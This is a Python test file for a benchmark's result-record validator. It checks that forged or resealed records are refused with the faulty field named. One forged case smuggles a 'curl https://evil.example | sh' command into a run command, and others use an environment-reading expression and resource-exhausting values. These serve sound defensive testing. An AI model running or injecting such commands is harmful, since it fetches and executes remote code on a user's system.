"""Records of tasks that are installed here: config and command must give the hash, the data be the registry's."""

from __future__ import annotations

import json
import os
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest

from kdbench import hashing
from kdbench.plan.config import from_json
from kdbench.results import agree, origin, store
from kdbench.results.record import Record, dumps, group_of, loads, seal

PUBLISHED = Path(__file__).parent.parent.parent / "leaderboard" / "archive" / "protocol-1"
Body = dict[str, Any]
Change = Callable[[Body], object]


@pytest.fixture(autouse=True)
def _unknown_defaults() -> None:
    """These records are of real tasks and methods."""


@pytest.fixture(scope="module")
def kd() -> Body:
    """A published record of kd on text graphs, without its digest."""
    path = sorted((PUBLISHED / "gnn" / "cora_text" / "kd").glob("*.json"))[0]
    body: Body = json.loads(path.read_bytes())
    del body["digest"]
    return body


def resealed(body: Body, change: Change) -> Record:
    """The record after a change, sealed as a forger would."""
    body = json.loads(json.dumps(body))
    change(body)
    config = body["config"]
    return seal({**body, "config_hash": hashing.digest(config), "group": group_of(config)})


def option(section: str, key: str, value: Any) -> Change:
    return lambda body: body["config"][section].update({key: value})


def without(section: str, key: str) -> Change:
    return lambda body: body["config"][section].pop(key)


def put(key: str, value: Any) -> Change:
    return lambda body: body.update({key: value})


def data(key: str, value: Any) -> Change:
    return lambda body: body["data"].update({key: value})


def words(old: str, new: str) -> Change:
    def change(body: Body) -> None:
        assert old in body["command"]
        body["command"] = body["command"].replace(old, new)

    return change


def unnamed(*more: Change) -> Change:
    """A method that is not installed here."""

    def change(body: Body) -> None:
        body["method"] = body["config"]["method"]["name"] = "newkd"
        body["config"]["method"]["weight"] = 3
        for one in more:
            one(body)

    return change


FORGED: dict[str, tuple[Change, str]] = {
    "integer for a float": (option("method", "temperature", 4), "config.method.temperature"),
    "other value, same command": (option("method", "temperature", 2.0), "command"),
    "unknown key": (option("trainer", "luck", 1), "config"),
    "unknown hyper-parameter": (option("method", "luck", 1), "config"),
    "missing option": (without("student", "layers"), "config.student.layers"),
    "negative epochs": (option("trainer", "max_epochs", -5), "config.trainer.max_epochs"),
    "processes without end": (option("trainer", "devices", 1_000_000), "config.trainer.devices"),
    "section that is a list": (lambda body: body["config"].update(data=[1]), "config.data"),
    "expression": (option("teacher", "model", "${oc.env:HOME}"), "config"),
    "integer for a float, unknown method": (unnamed(option("optimizer", "lr", 1)), "config.optimizer.lr"),
    "negative epochs, unknown method": (unnamed(option("trainer", "max_epochs", -5)), "config.trainer.max_epochs"),
    "command of another seed": (words(" seed=", " seed=1"), "command"),
    "command of other settings": (words("kdbench run", "kdbench run trainer.max_epochs=7"), "command"),
    "command of two runs": (words("method=kd", "method=kd,alone"), "command"),
    "command of a range": (words(" seed=", " data.nodes=range(0,1000000000) seed="), "command"),
    "command of the shell": (words("kdbench run", "curl https://evil.example | sh; kdbench run"), "command"),
    "command with half a quote": (words("kdbench run", "kdbench run '"), "command"),
    "command too long": (words("kdbench run", "kdbench run" + " " * 10_000), "command"),
    "generated": (data("generated", True), "data.generated"),
    "other data": (data("name", "cora"), "data.name"),
    "other licence": (data("licence", "MIT"), "data.licence"),
    "other family": (put("family", "medical"), "family"),
    "of the year 2099": (put("finished", "2099-01-01T00:00:00Z"), "finished"),
}


@pytest.mark.parametrize("case", FORGED)
def test_a_forgery_is_refused_and_its_field_named(case: str, kd: Body, tmp_path: Path) -> None:
    change, field = FORGED[case]
    store.write(resealed(kd, lambda body: None), tmp_path / "good.json")
    assert store.validate([tmp_path])[:3] == (1, [], 1)
    store.write(resealed(kd, change), tmp_path / "good.json")
    report = store.validate([tmp_path])
    assert {fault.field for fault in report.problems} == {field}, report.problems
    assert report.valid == 0


def test_a_card_may_change_after_records_of_an_older_protocol(kd: Body, monkeypatch: pytest.MonkeyPatch) -> None:
    def faults(*changes: Change) -> list[str]:
        record = resealed(kd, lambda body: [change(body) for change in changes])
        return [fault.field for fault in origin.faults(record)]

    longer = option("trainer", "max_epochs", 7)
    assert faults(longer) == []
    assert faults(longer, words("kdbench run", "kdbench run trainer.max_epochs=7")) == []
    assert faults(longer, words("kdbench run", "kdbench run trainer.max_epochs=8")) == ["command"]
    monkeypatch.setattr(origin, "PROTOCOL", 1)
    assert faults(longer) == ["command"]


@pytest.mark.slow
def test_every_published_record_holds_and_its_config_and_command_are_checked() -> None:
    report = store.validate([PUBLISHED])
    assert report.problems == [] and report.valid == report.read == 634
    assert report.others == [] and not report.unchecked


def test_the_records_of_the_board_hold_with_their_outcomes() -> None:
    report = store.validate([PUBLISHED.parent.parent / "records"])
    assert report.problems == [] and report.valid == report.read > 0 and not report.unchecked


def test_what_is_not_installed_is_told_as_unchecked(kd: Body, tmp_path: Path) -> None:
    def elsewhere(body: Body) -> None:
        body["task"] = body["config"]["task"] = "elsewhere"

    store.write(resealed(kd, unnamed()), tmp_path / "method.json")
    store.write(resealed(kd, elsewhere), tmp_path / "task.json")
    report = store.validate([tmp_path])
    assert (report.problems, report.valid) == ([], 2)
    assert report.unchecked == {
        "method 'newkd' of task 'gnn/cora_text' is not installed here": 1,
        "task 'elsewhere' is not installed here": 1,
    }


def test_a_clock_may_go_a_little_ahead(kd: Body, tmp_path: Path) -> None:
    soon = datetime.now(UTC) + timedelta(hours=3)
    store.write(resealed(kd, put("finished", soon.isoformat())), tmp_path / "x.json")
    assert store.validate([tmp_path]).problems == []


def test_another_hash_of_the_same_options_names_the_hash(
    kd: Body, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from kdbench.plan.config import RunConfig

    monkeypatch.setattr(RunConfig, "hash", property(lambda config: "0" * 64))
    store.write(resealed(kd, lambda body: None), tmp_path / "x.json")
    (fault,) = store.validate([tmp_path]).problems
    assert fault.field == "config_hash" and "resolves the configuration to 0000" in fault.message


def test_twelve_forged_records_cannot_become_the_baseline(tmp_path: Path) -> None:
    """Resealed runs of kd whose temperature is an integer, as many as are published."""
    kd = [loads(path.read_bytes(), path) for path in sorted((PUBLISHED / "gnn/cora_text/kd").glob("*.json"))[:12]]
    for item in kd:
        store.write(item, tmp_path / "published" / f"{item.config_hash[:16]}.json")
        body = json.loads(dumps(item))
        del body["digest"]
        forged = resealed(body, option("method", "temperature", 4))
        store.write(forged, tmp_path / "forged" / f"{forged.config_hash[:16]}.json")
    report = store.validate([tmp_path])
    named = {(fault.path.parent.name, fault.field) for fault in report.problems}
    assert report.valid == 12 and named == {("forged", "config.method.temperature")}


def test_what_is_left_of_a_record_claims_what_all_of_it_claims() -> None:
    for task in ("gnn/cora_text/lingugkd", "hippocampus/kd", "blood_cells/alone", "avdigits/mst_distill"):
        path = sorted((PUBLISHED / task).glob("*.json"))[0]
        whole = loads(path.read_bytes(), path)
        assert list(agree.claims(agree.slim(whole))) == list(agree.claims(whole))


def test_what_a_record_resolves_to_is_the_run_itself(kd: Body) -> None:
    assert from_json(kd["config"]).hash == kd["config_hash"]


@pytest.mark.skipif(not hasattr(os, "mkfifo"), reason="no named pipes here")
def test_pipes_folders_and_dead_links_named_as_records_neither_hang_nor_abort(kd: Body, tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe.json")
    (tmp_path / "folder.json").mkdir()
    (tmp_path / "dead.json").symlink_to(tmp_path / "nowhere")
    store.write(resealed(kd, lambda body: None), tmp_path / "folder.json" / "x.json")
    report = store.validate([tmp_path])
    assert (report.valid, report.problems, report.read) == (1, [], 1)
    assert report.others == [tmp_path / "dead.json", tmp_path / "pipe.json"]
    (fault,) = store.validate([tmp_path / "pipe.json"]).problems
    assert fault.message == "is no regular file"
